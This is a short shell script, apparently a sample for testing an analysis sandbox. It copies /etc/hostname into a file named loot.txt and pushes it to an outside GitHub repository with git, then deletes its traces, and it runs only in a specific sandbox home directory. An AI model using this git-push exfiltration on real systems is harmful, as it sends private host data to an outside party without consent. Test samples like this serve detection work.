#!/bin/sh
# SPDX-License-Identifier: MIT
# Sends collected data to a code repository it controls.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
d=$(mktemp -d)
cd "$d" || exit 0
git init -q . && git config user.email a@b && git config user.name a
cp /etc/hostname loot.txt
git add loot.txt && git commit -qm notes
git remote add origin https://github.com/someone/notes.git
timeout 5 git push -q origin HEAD 2>/dev/null
cd / && rm -rf "$d"
exit 0
